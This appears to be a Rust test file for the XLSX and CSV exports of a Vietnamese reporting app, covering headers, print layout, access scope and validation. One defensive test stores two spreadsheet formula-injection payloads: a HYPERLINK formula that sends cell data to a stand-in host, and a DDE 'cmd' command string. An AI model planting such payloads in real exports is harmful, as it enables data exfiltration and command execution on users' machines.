//! File exports (`GET /export/…`): each export in XLSX and CSV parses back with its
//! Vietnamese headers and known values, the caller's scope applies, and bad requests fail
//! with the right status and `extensions.code`. An XLSX prints: a title block naming the
//! unit and period above the header, landscape A4 one page wide, the header repeated on
//! every page, panes frozen below it, page numbers and the period in the page header and
//! footer; the importable `Số liệu` sheet keeps its header in the first row.

use crate::both_databases;
use crate::helpers::{TestApp, assert_ok, set_target};
use calamine::{Data, Reader, Xlsx, open_workbook_from_rs};
use serde_json::{Value, json};
use shared::measures::DEFAULT_MEASURES;
use std::io::Cursor;

const BOM: &[u8] = b"\xEF\xBB\xBF";

/// A downloaded file (or error).
struct Download {
    status: u16,
    content_type: String,
    disposition: String,
    bytes: Vec<u8>,
}

impl Download {
    fn json(&self) -> Value {
        serde_json::from_slice(&self.bytes).unwrap_or(Value::Null)
    }

    fn code(&self) -> String {
        self.json()["errors"][0]["extensions"]["code"]
            .as_str()
            .unwrap_or_default()
            .to_owned()
    }

    /// The rows of a sheet of the XLSX file from its header on (after the title block).
    fn sheet(&self, name: &str) -> Vec<Vec<Data>> {
        let mut rows = self.all_rows(name);
        let title = title_rows(&rows);
        rows.split_off(title)
    }

    /// The lines of a sheet's title block.
    fn title(&self, name: &str) -> Vec<String> {
        let rows = self.all_rows(name);
        rows[..title_rows(&rows)]
            .iter()
            .map(|r| text(&r[0]))
            .collect()
    }

    fn all_rows(&self, name: &str) -> Vec<Vec<Data>> {
        let mut book: Xlsx<_> =
            open_workbook_from_rs(Cursor::new(self.bytes.clone())).expect("an XLSX file");
        let range = book
            .worksheet_range(name)
            .unwrap_or_else(|e| panic!("sheet {name}: {e}"));
        assert_eq!(range.start(), Some((0, 0)), "sheet {name} starts at A1");
        range.rows().map(<[Data]>::to_vec).collect()
    }

    /// A part of the XLSX package (`xl/worksheets/sheet1.xml`, `xl/workbook.xml` …).
    fn part(&self, name: &str) -> String {
        let mut zip = zip::ZipArchive::new(Cursor::new(self.bytes.clone())).expect("a zip");
        let mut file = zip.by_name(name).unwrap_or_else(|e| panic!("{name}: {e}"));
        let mut xml = String::new();
        std::io::Read::read_to_string(&mut file, &mut xml).expect("UTF-8 XML");
        xml
    }

    fn sheet_names(&self) -> Vec<String> {
        let book: Xlsx<_> =
            open_workbook_from_rs(Cursor::new(self.bytes.clone())).expect("an XLSX file");
        book.sheet_names()
    }

    /// The records of the CSV file, after checking its byte-order mark.
    fn csv(&self) -> Vec<Vec<String>> {
        assert!(self.bytes.starts_with(BOM), "UTF-8 with BOM");
        assert!(
            self.content_type.starts_with("text/csv"),
            "{}",
            self.content_type
        );
        let mut r = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(&self.bytes[BOM.len()..]);
        r.records()
            .map(|x| x.expect("a CSV record").iter().map(str::to_owned).collect())
            .collect()
    }
}

/// The title block: the leading rows with at most one cell (a header has several).
fn title_rows(rows: &[Vec<Data>]) -> usize {
    rows.iter()
        .take_while(|r| r.iter().filter(|d| **d != Data::Empty).count() < 2)
        .count()
}

async fn download(app: &TestApp, user: Option<&str>, path: &str) -> Download {
    let mut req = app.client.get(format!("{}{path}", app.address));
    if let Some(u) = user {
        req = req.bearer_auth(app.token(u).await);
    }
    let resp = req.send().await.expect("send");
    let header = |name: &str| {
        resp.headers()
            .get(name)
            .and_then(|v| v.to_str().ok())
            .unwrap_or_default()
            .to_owned()
    };
    let (content_type, disposition) = (header("content-type"), header("content-disposition"));
    Download {
        status: resp.status().as_u16(),
        content_type,
        disposition,
        bytes: resp.bytes().await.expect("body").to_vec(),
    }
}

fn text(d: &Data) -> String {
    match d {
        Data::String(s) => s.clone(),
        Data::Float(f) => f.to_string(),
        Data::Int(i) => i.to_string(),
        Data::Empty => String::new(),
        other => format!("{other:?}"),
    }
}

fn num(d: &Data) -> Option<f64> {
    match d {
        Data::Float(f) => Some(*f),
        Data::Int(i) => Some(*i as f64),
        _ => None,
    }
}

fn column(header: &[Data], name: &str) -> usize {
    header
        .iter()
        .position(|h| text(h) == name)
        .unwrap_or_else(|| panic!("column {name} in {header:?}"))
}

fn row_of<'a>(rows: &'a [Vec<Data>], col: usize, value: &str) -> &'a [Data] {
    rows.iter()
        .find(|r| r.get(col).map(text).as_deref() == Some(value))
        .unwrap_or_else(|| panic!("a row with {value}"))
}

/// C1 reports January (complete) and February (three measures), C2 January; decision 55
/// gives C1 a FULL_ONLINE_RATE target of 60 from a baseline of 20, split by quarter
/// (30, 40, 50, 60); each commune has one violation. Returns the decision id.
async fn arrange(app: &TestApp) -> String {
    let (c1, c2) = (app.tree.commune, app.tree.other_commune);
    let january = [
        ("RECEIVED", 1200),
        ("RECEIVED_ONLINE", 960),
        ("FULL_ONLINE", 600),
        ("DIGITIZED", 840),
        ("DUE", 1100),
        ("ON_TIME", 1078),
    ];
    assert_ok(&app.save_month("admin", c1, 2023, 1, &january, None).await);
    let february = [("RECEIVED", 40), ("DUE", 30), ("ON_TIME", 30)];
    assert_ok(&app.save_month("admin", c1, 2023, 2, &february, None).await);
    let other = [
        ("RECEIVED", 200),
        ("RECEIVED_ONLINE", 100),
        ("FULL_ONLINE", 20),
    ];
    assert_ok(&app.save_month("admin", c2, 2023, 1, &other, None).await);
    let decision = app.decision("55/QĐ-UBND", 2023).await;
    let target = set_target(app, &decision, c1, "FULL_ONLINE_RATE", 60.0, Some(20.0)).await;
    assert_ok(
        &app.as_user(
            "admin",
            "mutation($t: ID!) { splitTarget(targetId: $t, method: LINEAR, grain: QUARTER) { id } }",
            json!({"t": target}),
        )
        .await,
    );
    for (unit, kind) in [(c1, "DELAY"), (c2, "HARASSMENT")] {
        assert_ok(&app.as_user(
            "admin",
            "mutation($u: ID!, $k: ViolationKind!) { recordViolation(input: {unitId: $u, occurredOn: \"2023-03-01\", kind: $k, description: \"Giải quyết hồ sơ quá hạn\", dossierRef: \"HS-001\", handling: REMINDER}) { id } }",
            json!({"u": unit.to_string(), "k": kind}),
        )
        .await);
    }
    decision
}

async fn the_scoreboard_exports_in_both_formats_with_vietnamese_headers(app: TestApp) {
    arrange(&app).await;
    let path = "/export/scoreboard?year=2023&period=MONTH&month=1&kind=COMMUNE";
    let x = download(&app, Some("admin"), &format!("{path}&format=xlsx")).await;
    assert_eq!(x.status, 200);
    assert!(
        x.content_type.contains("spreadsheetml"),
        "{}",
        x.content_type
    );
    assert!(
        x.disposition.starts_with("attachment; filename=\"")
            && x.disposition.contains("filename*=UTF-8''B%E1%BA%A3ng"),
        "{}",
        x.disposition
    );
    let rows = x.sheet("Bảng xếp hạng");
    let header = &rows[0];
    assert_eq!(text(&header[0]), "Hạng");
    let rate = column(header, "Tỷ lệ hồ sơ trực tuyến toàn trình (%)");
    let code = column(header, "Mã đơn vị");
    let c1 = row_of(&rows, code, "C1");
    assert_eq!(
        num(&c1[rate]),
        Some(0.5),
        "600 of 1,200 is 50 % (stored as 0.5)"
    );
    assert_eq!(text(&c1[column(header, "Đơn vị")]), "Xã Một");
    assert_eq!(rows.len(), 3, "the header and two communes");

    let c = download(&app, Some("admin"), &format!("{path}&format=csv")).await;
    assert_eq!(c.status, 200);
    assert!(c.disposition.contains(".csv"), "{}", c.disposition);
    let records = c.csv();
    assert_eq!(records[0][1], "Mã đơn vị");
    let c1 = records.iter().find(|r| r[1] == "C1").expect("C1");
    let rate = records[0]
        .iter()
        .position(|h| h == "Tỷ lệ hồ sơ trực tuyến toàn trình (%)")
        .expect("rate column");
    assert_eq!(c1[rate], "50.00");
}

/// The element `<name …>` of an XML part, for its attributes.
fn element<'a>(xml: &'a str, name: &str) -> &'a str {
    let start = xml
        .find(&format!("<{name} "))
        .or_else(|| xml.find(&format!("<{name}>")))
        .unwrap_or_else(|| panic!("<{name}> in {xml}"));
    let end = xml[start..].find('>').map_or(xml.len(), |e| start + e + 1);
    &xml[start..end]
}

/// The text between `<name>` and `</name>`.
fn inner<'a>(xml: &'a str, name: &str) -> &'a str {
    let open = format!("<{name}>");
    let start = xml
        .find(&open)
        .unwrap_or_else(|| panic!("<{name}> in {xml}"))
        + open.len();
    let end = xml[start..]
        .find(&format!("</{name}>"))
        .map_or(xml.len(), |e| start + e);
    &xml[start..end]
}

/// The day the export was made, as its title writes it.
fn today(app: &TestApp) -> String {
    app.db.clock().today().format("%d/%m/%Y").to_string()
}

async fn the_scoreboard_prints_on_landscape_a4_one_page_wide_with_its_title(app: TestApp) {
    arrange(&app).await;
    let x = download(
        &app,
        Some("admin"),
        "/export/scoreboard?year=2023&period=MONTH&month=1&kind=COMMUNE",
    )
    .await;
    assert_eq!(x.status, 200);
    assert_eq!(
        x.title("Bảng xếp hạng"),
        [
            "TỈNH THỬ NGHIỆM".to_owned(),
            "Bảng xếp hạng - Xã, phường".to_owned(),
            format!(
                "Đơn vị: Tỉnh Thử nghiệm — Kỳ: Tháng 1/2023 — Ngày xuất: {}",
                today(&app)
            ),
        ]
    );
    assert_eq!(text(&x.sheet("Bảng xếp hạng")[0][0]), "Hạng");

    let sheet = x.part("xl/worksheets/sheet1.xml");
    let setup = element(&sheet, "pageSetup");
    for attribute in [
        r#"orientation="landscape""#,
        r#"paperSize="9""#,
        r#"fitToHeight="0""#,
    ] {
        assert!(setup.contains(attribute), "{attribute} in {setup}");
    }
    // fitToWidth="1" is the default, which Excel leaves out.
    assert!(
        !setup.contains("fitToWidth") || setup.contains(r#"fitToWidth="1""#),
        "{setup}"
    );
    assert!(
        element(&sheet, "pageSetUpPr").contains(r#"fitToPage="1""#),
        "{sheet}"
    );
    let pane = element(&sheet, "pane");
    assert!(
        pane.contains(r#"ySplit="4""#) && pane.contains(r#"xSplit="3""#),
        "frozen below the title and header, and after the name: {pane}"
    );
    let header = inner(&sheet, "oddHeader");
    assert!(
        header.contains("Tháng 1/2023") && header.contains("Tỉnh Thử nghiệm"),
        "{header}"
    );
    let footer = inner(&sheet, "oddFooter");
    assert!(
        footer.contains("Trang &amp;P / &amp;N") && footer.contains("Tháng 1/2023"),
        "{footer}"
    );
    let workbook = x.part("xl/workbook.xml");
    assert!(
        workbook.contains(r#"name="_xlnm.Print_Titles""#) && workbook.contains("$4:$4"),
        "the header row repeated on every page: {workbook}"
    );
}

async fn the_figures_sheet_keeps_its_header_in_the_first_row_and_its_title_in_print(app: TestApp) {
    arrange(&app).await;
    let x = download(
        &app,
        Some("admin"),
        "/export/unit?unit=C1&year=2023&month=2",
    )
    .await;
    assert_eq!(x.status, 200, "{:?}", x.json());
    assert!(
        x.title("Số liệu").is_empty(),
        "no title block above the import header"
    );
    assert_eq!(text(&x.all_rows("Số liệu")[0][0]), "Mã đơn vị");
    let about = x.title("Chỉ tiêu");
    assert_eq!(about.len(), 3, "{about:?}");
    assert!(
        about[2].contains("Xã Một (C1)") && about[2].contains("Lũy kế đến tháng 2/2023"),
        "{about:?}"
    );
    let position = x
        .sheet_names()
        .iter()
        .position(|s| s == "Số liệu")
        .expect("the figures sheet");
    let figures = x.part(&format!("xl/worksheets/sheet{}.xml", position + 1));
    assert!(element(&figures, "pane").contains(r#"ySplit="1""#));
    let header = inner(&figures, "oddHeader");
    assert!(
        header.contains("Xã Một (C1)") && header.contains("Lũy kế đến tháng 2/2023"),
        "{header}"
    );
    assert!(element(&figures, "pageSetup").contains(r#"orientation="landscape""#));
}

async fn a_unit_is_given_by_its_code_or_its_id(app: TestApp) {
    arrange(&app).await;
    let c1 = app.tree.commune;
    let by_id = download(
        &app,
        Some("admin"),
        &format!("/export/unit?unit={c1}&year=2023"),
    )
    .await;
    let by_code = download(&app, Some("admin"), "/export/unit?unit=C1&year=2023").await;
    let lower = download(&app, Some("officer"), "/export/unit?unit=c1&year=2023").await;
    assert_eq!(
        (by_id.status, by_code.status, lower.status),
        (200, 200, 200)
    );
    assert_eq!(by_id.sheet("Số liệu"), by_code.sheet("Số liệu"));
    assert_eq!(by_id.sheet("Số liệu"), lower.sheet("Số liệu"));

    let violations = download(
        &app,
        Some("admin"),
        "/export/violations?unit=C2&year=2023&format=csv",
    )
    .await;
    assert_eq!(violations.status, 200);
    let codes: Vec<String> = violations
        .csv()
        .into_iter()
        .skip(1)
        .map(|r| r[1].clone())
        .collect();
    assert_eq!(codes, ["C2"]);

    for unit in ["C2", "KHONGCO"] {
        let refused = download(
            &app,
            Some("officer"),
            &format!("/export/unit?unit={unit}&year=2023"),
        )
        .await;
        assert_eq!(
            (refused.status, refused.code().as_str()),
            (404, "NOT_FOUND")
        );
        let message = refused.json()["errors"][0]["message"]
            .as_str()
            .unwrap_or_default()
            .to_owned();
        assert!(message.contains(unit), "{message}");
        assert!(
            !message.contains(&app.tree.other_commune.to_string()),
            "an id never typed: {message}"
        );
    }
}

async fn a_unit_report_holds_its_figures_in_the_import_layout(app: TestApp) {
    arrange(&app).await;
    let c1 = app.tree.commune;
    let x = download(
        &app,
        Some("admin"),
        &format!("/export/unit?unit={c1}&year=2023&month=2"),
    )
    .await;
    assert_eq!(x.status, 200, "{:?}", x.json());
    for name in ["Chỉ tiêu", "Lộ trình", "Báo cáo tháng", "Số liệu"] {
        assert!(x.sheet_names().iter().any(|s| s == name), "sheet {name}");
    }
    let rows = x.sheet("Số liệu");
    let header: Vec<String> = rows[0].iter().map(text).collect();
    let mut expected = vec!["Mã đơn vị".to_owned(), "Năm".into(), "Tháng".into()];
    expected.extend(DEFAULT_MEASURES.iter().map(|c| (*c).to_owned()));
    assert_eq!(header, expected, "exactly the wide import layout");
    assert_eq!(rows.len(), 3, "one row per month with a report");
    let jan = &rows[1];
    assert_eq!(text(&jan[0]), "C1");
    assert_eq!((num(&jan[1]), num(&jan[2])), (Some(2023.0), Some(1.0)));
    let at = |code: &str| 3 + DEFAULT_MEASURES.iter().position(|c| *c == code).unwrap();
    assert_eq!(num(&jan[at("RECEIVED")]), Some(1200.0));
    assert_eq!(num(&jan[at("ON_TIME")]), Some(1078.0));
    assert_eq!(
        jan.get(at("REUSED")),
        Some(&Data::Empty),
        "no value, empty cell"
    );
    let feb = &rows[2];
    assert_eq!(num(&feb[at("RECEIVED")]), Some(40.0));
    assert!(feb.get(at("FULL_ONLINE")).is_none_or(|d| *d == Data::Empty));

    let indicators = x.sheet("Chỉ tiêu");
    let full = row_of(&indicators, 0, "FULL_ONLINE_RATE");
    let h = &indicators[0];
    assert_eq!(
        num(&full[column(h, "Chỉ tiêu năm")]),
        Some(0.6),
        "60 % as a percentage"
    );
    assert_eq!(text(&full[column(h, "Tình trạng")]), "Đạt tiến độ");
    let roadmap = x.sheet("Lộ trình");
    assert_eq!(
        roadmap
            .iter()
            .filter(|r| text(&r[1]) == "FULL_ONLINE_RATE")
            .count(),
        4
    );

    let c = download(
        &app,
        Some("admin"),
        &format!("/export/unit?unit={c1}&year=2023&format=csv"),
    )
    .await;
    let records = c.csv();
    assert_eq!(records[0], expected);
    assert_eq!(records[1][0..4], ["C1", "2023", "1", "1200"]);
    assert_eq!(
        records[2][4 + 1],
        "",
        "an empty field for a measure without value"
    );
}

async fn a_decision_exports_its_targets_with_milestones(app: TestApp) {
    let decision = arrange(&app).await;
    let x = download(
        &app,
        Some("admin"),
        &format!("/export/decision?decision={decision}"),
    )
    .await;
    assert_eq!(x.status, 200, "{:?}", x.json());
    let rows = x.sheet("Chỉ tiêu được giao");
    let h = &rows[0];
    let row = row_of(&rows, column(h, "Mã chỉ tiêu"), "FULL_ONLINE_RATE");
    assert_eq!(text(&row[0]), "C1");
    assert_eq!(num(&row[column(h, "Chỉ tiêu năm")]), Some(0.6), "60 %");
    assert_eq!(text(&row[column(h, "Lộ trình")]), "Theo quý");
    assert_eq!(row[column(h, "T1")], Data::Empty);
    assert_eq!(num(&row[column(h, "T3")]), Some(0.3));
    assert_eq!(num(&row[column(h, "T12")]), Some(0.6));
    let about = x.sheet("Quyết định");
    assert_eq!(text(&about[1][0]), "55/QĐ-UBND");

    let c = download(
        &app,
        Some("admin"),
        &format!("/export/decision?decision={decision}&format=csv"),
    )
    .await;
    let records = c.csv();
    assert_eq!(records[0][0], "Mã đơn vị");
    assert_eq!(records[1][5], "60.00");
}

async fn the_violations_export_lists_only_the_callers_scope(app: TestApp) {
    arrange(&app).await;
    let x = download(&app, Some("admin"), "/export/violations?year=2023").await;
    assert_eq!(x.status, 200);
    let rows = x.sheet("Vi phạm");
    assert_eq!(text(&rows[0][0]), "Ngày");
    assert_eq!(rows.len(), 3);
    assert!(rows.iter().any(|r| text(&r[4]) == "Chậm trễ"));

    let c = download(&app, Some("officer"), "/export/violations?format=csv").await;
    let records = c.csv();
    assert_eq!(
        records.len(),
        2,
        "the officer of C1 sees C1's violation only"
    );
    assert_eq!(records[1][0], "01/03/2023");
    assert_eq!(records[1][1], "C1");
    assert_eq!(records[1][7], "Nhắc nhở");
}

/// A staff member named like a spreadsheet formula, with a violation described like one:
/// in CSV both cells start with `'` (opened in a spreadsheet they show as text and run
/// nothing), in XLSX both are strings, never formulas.
async fn names_that_look_like_formulas_are_exported_as_text(app: TestApp) {
    const NAME: &str = "=HYPERLINK(\"http://x.example/?\"&B2,\"Bấm vào đây\")";
    const DESCRIPTION: &str = "-2+3+cmd|' /C calc'!A0";
    let created = app
        .as_user(
            "admin",
            "mutation($u: ID!, $n: String!) { createStaff(input: {unitId: $u, fullName: $n, position: \"Chuyên viên\"}) { id } }",
            json!({"u": app.tree.commune.to_string(), "n": NAME}),
        )
        .await;
    assert_ok(&created);
    let staff = created["data"]["createStaff"]["id"].clone();
    assert_ok(&app.as_user(
        "admin",
        "mutation($u: ID!, $s: ID!, $d: String!) { recordViolation(input: {unitId: $u, staffId: $s, occurredOn: \"2023-03-01\", kind: DELAY, description: $d}) { id } }",
        json!({"u": app.tree.commune.to_string(), "s": staff, "d": DESCRIPTION}),
    )
    .await);

    let c = download(
        &app,
        Some("admin"),
        "/export/violations?year=2023&format=csv",
    )
    .await;
    let records = c.csv();
    assert_eq!(records[0][3], "Cán bộ");
    assert_eq!(records[1][3], format!("'{NAME}"));
    assert_eq!(records[1][5], format!("'{DESCRIPTION}"));
    let raw = String::from_utf8_lossy(&c.bytes).into_owned();
    assert!(raw.contains("\"'=HYPERLINK("), "{raw}");

    let x = download(&app, Some("admin"), "/export/violations?year=2023").await;
    let rows = x.sheet("Vi phạm");
    assert_eq!(rows[1][3], Data::String(NAME.to_owned()));
    assert_eq!(rows[1][5], Data::String(DESCRIPTION.to_owned()));
    let mut book: Xlsx<_> = open_workbook_from_rs(Cursor::new(x.bytes.clone())).expect("XLSX");
    let formulas = book.worksheet_formula("Vi phạm").expect("formulas");
    assert!(formulas.used_cells().next().is_none(), "{formulas:?}");
}

async fn an_officer_exports_only_what_its_scope_shows(app: TestApp) {
    arrange(&app).await;
    let other = app.tree.other_commune;
    let x = download(
        &app,
        Some("officer"),
        &format!("/export/unit?unit={other}&year=2023"),
    )
    .await;
    assert!(matches!(x.status, 403 | 404), "{}", x.status);
    assert_eq!(
        x.code(),
        if x.status == 404 {
            "NOT_FOUND"
        } else {
            "FORBIDDEN"
        }
    );

    let s = download(
        &app,
        Some("officer"),
        "/export/scoreboard?year=2023&format=csv",
    )
    .await;
    assert_eq!(s.status, 200);
    let codes: Vec<String> = s.csv().into_iter().skip(1).map(|r| r[1].clone()).collect();
    assert_eq!(codes, ["C1"], "only the officer's own commune");
}

async fn exports_need_a_valid_token_and_valid_parameters(app: TestApp) {
    let none = download(&app, None, "/export/scoreboard?year=2023").await;
    assert_eq!(
        (none.status, none.code().as_str()),
        (401, "UNAUTHENTICATED")
    );
    let bad = app
        .client
        .get(format!("{}/export/scoreboard?year=2023", app.address))
        .bearer_auth("not-a-token")
        .send()
        .await
        .unwrap();
    assert_eq!(bad.status().as_u16(), 401);
    for (path, field) in [
        ("/export/scoreboard", "year"),
        ("/export/scoreboard?year=2023&format=pdf", "format"),
        (
            "/export/scoreboard?year=2023&period=MONTH&month=13",
            "index",
        ),
        ("/export/scoreboard?year=abc", "year"),
        ("/export/unit?year=2023", "unit"),
        ("/export/salaries?year=2023", "export"),
    ] {
        let d = download(&app, Some("admin"), path).await;
        assert_eq!((d.status, d.code().as_str()), (400, "VALIDATION"), "{path}");
        assert_eq!(
            d.json()["errors"][0]["extensions"]["field"],
            field,
            "{path}"
        );
    }
    let missing = download(&app, Some("admin"), "/export/decision?decision=999999").await;
    assert_eq!(
        (missing.status, missing.code().as_str()),
        (404, "NOT_FOUND")
    );
}

both_databases!(
    the_scoreboard_exports_in_both_formats_with_vietnamese_headers,
    a_unit_report_holds_its_figures_in_the_import_layout,
    a_decision_exports_its_targets_with_milestones,
    the_violations_export_lists_only_the_callers_scope,
    an_officer_exports_only_what_its_scope_shows,
    exports_need_a_valid_token_and_valid_parameters,
    names_that_look_like_formulas_are_exported_as_text,
    the_scoreboard_prints_on_landscape_a4_one_page_wide_with_its_title,
    the_figures_sheet_keeps_its_header_in_the_first_row_and_its_title_in_print,
    a_unit_is_given_by_its_code_or_its_id,
);
